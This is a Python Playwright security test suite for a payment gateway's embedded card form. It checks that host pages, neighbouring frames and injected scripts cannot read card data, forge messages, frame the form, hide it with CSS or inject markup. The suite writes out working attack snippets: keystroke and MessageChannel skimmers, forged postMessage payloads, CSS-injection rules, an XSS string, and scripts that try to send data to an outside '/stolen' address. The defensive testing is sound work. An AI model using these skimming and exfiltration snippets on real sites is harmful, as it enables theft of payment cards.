"""Pages that want the card, or more of the form than is theirs: each attack in Chromium against the running gateway."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import Page, expect

from tests.acceptance.browsers import Windows
from tests.acceptance.conftest import NewMerchant
from tests.acceptance.forms import (
    CARD,
    CODE,
    DESKTOP,
    Form,
    FormShop,
    Opened,
    confirm,
    forgive,
    standing_in,
    wait_in,
    window_of,
)
from tests.acceptance.merchant import Merchant, payment_of
from tests.acceptance.payer import link_of
from tests.acceptance.system import System
from tollhouse.sandbox.cards import compose

# Listens to everything before the form's script is there, and sits between both ends of every channel.
LISTENING = """<script>
window.stolen = []; window.channels = [];
for (const kind of ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "copy", "cut", "click",
                    "compositionend", "selectionchange", "focusin", "pointerdown", "dragstart", "submit", "message"])
  for (const one of [window, document])
    one.addEventListener(kind, (event) => stolen.push([kind, event.key ?? event.target?.value ?? "",
                                                       String(JSON.stringify(event.data ?? null))]), true);
const Real = MessageChannel;
window.MessageChannel = class extends Real {
  constructor() {
    super();
    channels.push(this);
    this.port1.addEventListener("message", ({ data }) => stolen.push(["port", JSON.stringify(data)]));
  }
};
</script>"""
BAIT = """<form id="bait"><input autocomplete="cc-number" name="number"><input autocomplete="cc-exp" name="expiry">
<input autocomplete="cc-csc" name="code"><input autocomplete="cc-name" name="holder"></form>"""
GRABBING = """() => {
  const frame = document.querySelector("#smgl-payment-form iframe"), inside = frame.contentWindow;
  const tries = {
    contentDocument: () => frame.contentDocument, document: () => inside.document, frames: () => frames[0].document,
    address: () => inside.location.href, function: () => inside.fetch, storage: () => inside.localStorage,
    name: () => inside.name, find: () => inside.find("4242"), selection: () => String(inside.getSelection()),
    own: () => String(getSelection()),
    bait: () => [...document.querySelectorAll("input")].map((one) => one.value).join(""),
    define: () => { inside.fetch = () => 1; return "done"; },
  };
  return Object.fromEntries(Object.entries(tries).map(([name, get]) => {
    try { return [name, String(get())]; } catch (error) { return [name, error.name]; }
  }));
}"""
# An advertisement beside the form: greets the page as if it were the form, and the form as if it were the page.
ADVERTISEMENT = """<!doctype html><title>Buy</title><link rel="icon" href="data:,"><script>
window.heard = [];
const note = (event) => { heard.push(event.data); for (const port of event.ports) port.onmessage = note; };
addEventListener("message", note);
setInterval(() => {
  for (const said of [{tollhouse: "hello", version: 1}, {tollhouse: "leave"}, {type: "succeeded"}])
    parent.postMessage(said, "*");
  for (let at = 0; at < parent.frames.length; at += 1) {
    if (parent.frames[at] === window) continue;
    const channel = new MessageChannel();
    channel.port1.onmessage = note;
    parent.frames[at].postMessage({tollhouse: "open", version: 1}, "*", [channel.port2]);
    channel.port1.postMessage({type: "begin", token: "TOKEN", options: {}});
  }
}, 5);
</script>"""
FORGING = """(token) => {
  const frame = document.querySelector("#smgl-payment-form iframe").contentWindow;
  const port = channels[0].port1, begin = {type: "begin", token, options: {}};
  const second = new MessageChannel();
  window.second = [];
  second.port1.onmessage = ({ data }) => window.second.push(data);
  frame.postMessage({tollhouse: "open", version: 1}, "*", [second.port2]);
  second.port1.postMessage(begin);
  const huge = "9".repeat(3_000_000), deep = {};
  let at = deep;
  for (let depth = 0; depth < 2000; depth += 1) at = at.next = {};
  const said = [begin, null, 7, "begin", [], deep, new Map([[1, 2]]), {type: huge}, {type: "begin", token: huge},
    {type: "appearance", appearance: huge}, {type: "appearance", appearance: {rules: {".Input": 7, [huge]: null}}},
    {type: "appearance", appearance: {variables: {colorText: {}}}}, {type: "opened", isOpen: "yes"}, {type: "closed"},
    {type: "ready"}, {type: "succeeded"}, {type: "__proto__"}, {type: "constructor"}];
  for (const one of said) { port.postMessage(one); frame.postMessage(one, "*"); }
}"""
# As the form's own loader begins, but with another token than that of the frame's address.
SWITCHED = """<!doctype html><title>Shop</title><link rel="icon" href="data:,"><div id="smgl-payment-form">
<iframe src="GATEWAY/widget/v1/frame/FRAME"></iframe></div><script>
window.told = [];
addEventListener("message", ({ source }) => {
  const channel = new MessageChannel();
  channel.port1.onmessage = ({ data }) => told.push(data.type);
  source.postMessage({tollhouse: "open", version: 1}, "*", [channel.port2]);
  channel.port1.postMessage({type: "begin", token: "TOKEN", options: {}});
});
</script>"""
FRAMING = '<!doctype html><title>x</title><link rel="icon" href="data:,"><iframe src="{}"></iframe>'
LEAVING = """(outside) => {
  const tries = {
    top: () => { top.location.href = outside; }, parent: () => { parent.location.replace(outside); },
    open: () => { if (open(outside)) throw new Error("opened"); throw new TypeError("blocked"); },
    page: () => parent.document.title, html: () => { document.body.innerHTML = "<b>x</b>"; },
    script: () => { document.createElement("script").src = outside; },
    text: () => { document.createElement("script").textContent = "1"; }, code: () => setTimeout("1"),
    worker: () => new Worker("data:,1"), policy: () => trustedTypes.createPolicy("x", {}),
  };
  return Object.fromEntries(Object.entries(tries).map(([name, run]) => {
    try { run(); return [name, "done"]; } catch (error) { return [name, error.name]; }
  }));
}"""
SENDING = """async (outside) => {
  const done = [];
  // Later: while the driver runs a script, the page's policy lets it evaluate.
  await new Promise((settle) => setTimeout(() => { try { eval("1"); done.push("eval"); } catch { settle(); } }));
  await fetch(outside, {mode: "no-cors"}).then(() => done.push("fetch"), () => 0);
  const load = (element, name) => new Promise((settle) => {
    element.onload = () => { done.push(name); settle(); };
    element.onerror = settle;
    document.body.append(element);
    setTimeout(settle, 500);
  });
  const picture = document.createElement("img"), frame = document.createElement("iframe");
  picture.src = outside; frame.src = outside;
  await Promise.all([load(picture, "picture"), load(frame, "frame").then(() => { done.pop(); })]);
  const form = document.createElement("form");
  form.action = outside; form.method = "post";
  document.body.append(form);
  form.submit();
  return done;
}"""


def test_the_page_cannot_read_what_is_typed(shop: Merchant, form_shop: FormShop, windows: Windows) -> None:
    """Through the frame, by listeners, by fields that look like ours, by the selection: nothing of the card."""
    session_id, token = shop.open_form()
    form = Form(windows.open(form_shop.set_up(token, head=LISTENING, more=BAIT), viewport=DESKTOP))
    form.expect_stage("ready")
    form.fill()
    form.field("number").select_text()
    form.page.keyboard.press("Control+C")
    grabbed = form.page.evaluate(GRABBING)
    assert grabbed.pop("contentDocument") == "null"
    assert (grabbed.pop("own"), grabbed.pop("bait")) == ("", "")
    assert set(grabbed.values()) <= {"SecurityError", "TypeError"}, grabbed
    form.submit()
    confirm(shop, session_id)
    form.expect_stage("succeeded")
    stolen = form.page.evaluate("() => JSON.stringify(stolen)")
    assert '"port"' in stolen, "what goes by the port was heard"
    seen = stolen + form.page.content()
    assert [digits for digits in (CARD, CARD[:8], "4242 4242") if digits in seen] == []
    assert standing_in(seen, (CODE, "08/31", "Muster")) == []
    forgive(windows, "cross-origin frame")


def test_forged_messages_from_the_page(shop: Merchant, form_shop: FormShop, windows: Windows) -> None:
    """Begun twice, by a second port, garbage, the huge and the deep: the form goes on with its first token."""
    other_id, other = shop.open_form(777)
    session_id, token = shop.open_form()
    form = Form(windows.open(form_shop.set_up(token, head=LISTENING)))
    form.expect_stage("ready")
    form.page.evaluate(FORGING, other)
    form.pay()
    confirm(shop, session_id)
    form.expect_stage("succeeded")
    assert form.page.evaluate("() => window.second") == []
    assert [one[0] for one in form.told()] == ["ready", "start", "success"]
    assert shop.status(other_id)["status"] == "created"
    forgive(windows, "Payment form: ")


def test_forged_messages_from_another_frame(shop: Merchant, form_shop: FormShop, windows: Windows) -> None:
    """A frame of a third party beside the form gets neither a port nor the token, and ends nothing."""
    session_id, token = shop.open_form()
    beside = form_shop.elsewhere(form_shop.add(ADVERTISEMENT.replace("TOKEN", token)))
    page = windows.open(form_shop.set_up(token, head=f'<body><iframe id="beside" src="{beside}"></iframe>'))
    form = Form(page)
    form.expect_stage("ready")
    form.pay()
    confirm(shop, session_id)
    form.expect_stage("succeeded")
    assert window_of(page.locator("#beside")).evaluate("() => window.heard") == []
    assert [one[0] for one in form.told()] == ["ready", "start", "success"]


def test_only_named_origins_frame_the_form(
    system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant
) -> None:
    """With `widget_origins` another origin's page shows no form: by our script, without it, around the right page."""
    merchant = new_merchant(system, settings={"widget_origins": form_shop.url})
    session_id, token = merchant.open_form()
    address = form_shop.set_up(token)
    allowed = Form(windows.open(address))
    allowed.expect_stage("ready")
    src = allowed.page.locator("#smgl-payment-form iframe").get_attribute("src")
    raw = form_shop.add(f'<!doctype html><title>x</title><link rel=icon href=data:,><iframe src="{src}"></iframe>')
    around = form_shop.add(
        f'<!doctype html><title>x</title><link rel=icon href=data:,><iframe src="{address}"></iframe>'
    )
    for foreign in (address, raw, around):
        page = windows.open()
        page.clock.install()
        page.goto(form_shop.elsewhere(foreign))
        expect_refused(page)
        assert not any(frame.locator("[data-testid=form-number]").count() for frame in page.frames)
        page.clock.fast_forward(16_000)
        if foreign == address:
            expect(page.locator("#smgl-payment-form iframe")).to_have_count(0)
            assert [(kind, error["code"]) for kind, error in Form(page).told()] == [("fail", "form_unreachable")]
    allowed.pay()
    confirm(merchant, session_id)
    allowed.expect_stage("succeeded")
    forgive(windows, "frame-ancestors", "could not be loaded", "ERR_BLOCKED_BY_RESPONSE")


def expect_refused(page: Page) -> None:
    """Chromium has put its own page in place of a frame that may not be there."""
    wait_in(page, lambda: any(frame.url.startswith("chrome-error:") for frame in page.frames), "it is refused")


def test_only_named_origins_frame_the_payers_page(
    system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant
) -> None:
    """The page of the 3-D Secure dialog is refused in another origin's page, and outside of a dialog in any."""
    merchant = new_merchant(system, settings={"widget_origins": form_shop.url})
    session_id, token = merchant.open_form()
    form = Form(windows.open(form_shop.set_up(token, customerInteractionRedirect={"target": "modal"})))
    form.expect_stage("ready")
    form.pay(compose(authentication=7))
    confirm(merchant, session_id)
    link = link_of(merchant.receiver.wait_for(session_id, "action_required")[-1].session)
    for address, is_foreign in ((f"{link}?in=dialog", True), (link, True), (link, False)):
        framing = form_shop.add(FRAMING.format(address))
        page = windows.open(form_shop.elsewhere(framing) if is_foreign else framing)
        expect_refused(page)
    forgive(windows, "frame-ancestors", "ERR_BLOCKED_BY_RESPONSE", "X-Frame-Options")


def test_another_forms_frame_takes_no_token(
    system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant
) -> None:
    """Whoever may show one form cannot show another's in it: the frame takes the token of its address only."""
    victim = new_merchant(system, settings={"widget_origins": "https://shop.example"})
    session_id, token = victim.open_form()
    page = windows.open()
    page.goto(form_shop.set_up(own_token(new_merchant(system))))
    form = Form(page)
    form.expect_stage("ready")
    address = str(page.locator("#smgl-payment-form iframe").get_attribute("src"))
    switched = SWITCHED.replace("GATEWAY/widget/v1/frame/FRAME", address).replace("TOKEN", token)
    with page.expect_console_message(lambda message: "public token is not that" in message.text):
        page.goto(form_shop.add(switched))
    assert form.told() == []
    assert form.field("number").count() == 0
    assert victim.status(session_id)["status"] == "created"
    forgive(windows, "public token is not that")


def own_token(merchant: Merchant) -> str:
    """A token of a merchant whose form anybody may show."""
    return merchant.open_form()[1]


OVERLAYS: dict[str, dict[str, str]] = {
    ".Input": {
        "opacity": "0",
        "position": "absolute",
        "top": "-999px",
        "pointerEvents": "none",
        "color": "transparent",
    },
    ".Button": {"display": "none", "visibility": "hidden", "transform": "scale(0)", "zIndex": "-1", "height": "0"},
    ".Form": {"background": "url(http://localhost:9/x)", "backgroundImage": "url(http://localhost:9/x)"},
    ".Label": {"fontSize": "1px", "content": "'x'", "clipPath": "inset(50%)", "color": "rgba(0,0,0,0)"},
    ".Terms": {"fontFamily": "x; } body { display: none", "color": "red;background:url(http://localhost:9/x)"},
    ".Message": {"fontSize": "16px} .input{opacity:0", "boxShadow": "0 0 0 9999px red", "color": "\\75rl(x)"},
    ".Input::before": {"content": "'x'"},
    "@import url(http://localhost:9/x.css)": {"color": "red"},
    "body": {"display": "none"},
    "input, .Input": {"color": "red"},
}
VARIABLES = {
    "colorText": "url(http://localhost:9/x)",
    "fontFamily": "x}*{display:none",
    "opacity": "0",
    "fontSize": "0px",
}
SHOWN = """(one) => {
  const style = getComputedStyle(one), place = one.getBoundingClientRect();
  const top = document.elementFromPoint(place.x + place.width / 2, place.y + place.height / 2);
  return [style.opacity, style.position, style.visibility, style.pointerEvents, style.transform, style.backgroundImage,
          parseFloat(style.fontSize) >= 12, place.width > 40, place.height > 20, top === one];
}"""


def test_overlays_by_appearance(shop: Merchant, opened: Opened, windows: Windows) -> None:
    """No rule hides, moves, covers or loads anything: each is refused by name, and the form stays as it is."""
    warnings: list[str] = []
    session_id, form = opened()
    form.page.on("console", lambda message: warnings.append(message.text))
    form.page.evaluate("given => form.update(given)", {"appearance": {"rules": OVERLAYS, "variables": VARIABLES}})
    wanted = [f"rule {name}:" for name in OVERLAYS] + [f"variable {name}:" for name in VARIABLES]
    wait_in(form.page, lambda: all(any(one in said for said in warnings) for one in wanted), "each is refused by name")
    for name in ("opacity", "position", "display", "background", "font-size", "content", "transform"):
        assert any(name in said for said in warnings), name
    assert not any("inset(" in said for said in warnings), "values are not repeated"
    expected = ["1", "static", "visible", "auto", "none", "none", True, True, True, True]
    for name in ("number", "expiry", "code", "holder", "submit"):
        assert form.field(name).evaluate(SHOWN) == expected, name
    form.pay()
    confirm(shop, session_id)
    form.expect_stage("succeeded")
    forgive(windows, "Payment form: ")


def test_no_way_out_of_the_frame(opened: Opened, form_shop: FormShop, windows: Windows) -> None:
    """Even a script in the form's own frame could not lead the page away, make scripts, or send the card elsewhere."""
    _, form = opened()
    address, outside = form.page.url, f"{form_shop.url}/stolen"
    frame = form.inside
    tried: dict[str, str] = frame.evaluate(LEAVING, outside)
    assert {name for name, end in tried.items() if end == "done"} == set(), tried
    assert frame.evaluate(SENDING, outside) == []
    assert form.page.url == address
    assert form.page.context.pages == [form.page]
    assert [visit for visit in form_shop.visits if "stolen" in visit] == []
    for policy in ("connect-src", "img-src", "form-action", "TrustedScript", "allow-top-navigation", "allow-popups"):
        wait_in(form.page, lambda said=policy: any(said in one for one in windows.problems), f"{policy} stopped it")  # type: ignore[misc]
    windows.problems.clear()


MARKUP = "<img src onerror=top.pwned=1>\"'<b>&amp;"


def test_markup_stays_text(system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant) -> None:
    """In the merchant's name and words markup is shown as it is written, on the merchant's page and on ours."""
    merchant = new_merchant(system, settings={"display_name": MARKUP})
    names = ("buttonPayLabel", "cardholderLabel", "cardNumberLabel", "cvvLabel", "expireDateLabel", "recurrentLabel")
    words: dict[str, Any] = {name: f"{name} {MARKUP}" for name in names}
    words |= {"termsAgreement": "I agree {{#link}}" + MARKUP + "{{/link}}", "termsUrl": "javascript:top.pwned=1"}
    _, token = merchant.open_form(show_recurrent_checkbox=True)
    texts = {"paymentForm": words}
    # In a page of its own the merchant's text is the merchant's matter: here it comes to the form by script.
    form = Form(windows.open(form_shop.set_up(token)))
    page = form.page
    page.evaluate(
        """([token, texts]) => {
             form.destroy();
             new SmglPaymentForm(token, {container: "#smgl-payment-form", texts}).render();
        }""",
        [token, texts],
    )
    form.expect_stage("ready")
    for name in names:
        expect(form.frame.get_by_text(words[name]).first).to_be_visible()
    expect(form.frame.get_by_text(MARKUP, exact=True).first).to_be_visible()
    expect(form.field("terms")).to_have_text(f"I agree {MARKUP}")
    assert form.frame.locator("img, b, a[href^=javascript]").count() == 0
    hosted = windows.open(f"{system.url}/pay/{token}")
    expect(Form(hosted).frame.get_by_text(MARKUP, exact=True).first).to_be_visible()
    for one in (page, hosted):
        assert one.evaluate("() => window.pwned") is None


def test_a_used_token_shows_the_end_only(shop: Merchant, form_shop: FormShop, opened: Opened, windows: Windows) -> None:
    """Whoever finds the address of a finished form is shown how it ended, and no field to type into."""
    session_id, form = opened()
    form.pay()
    confirm(shop, session_id)
    form.expect_stage("succeeded")
    again = Form(windows.open(form.page.url))
    again.expect_stage("succeeded")
    assert again.field("number").count() == 0
    assert [one[0] for one in again.told()] == ["ready", "success"]
    assert payment_of(shop.status(session_id))["amount_details"]["amount"] == 2590
